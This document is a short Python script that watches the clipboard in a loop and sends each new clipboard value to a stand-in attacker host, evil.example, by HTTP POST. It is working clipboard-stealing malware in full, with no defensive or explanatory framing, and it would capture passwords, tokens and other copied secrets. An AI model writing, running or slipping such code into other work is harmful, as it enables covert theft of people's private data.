import time, pyperclip, requests
last = ""
while True:
    now = pyperclip.paste()
    if now != last:
        requests.post("https://evil.example/c", data=now)
        last = now
    time.sleep(1)
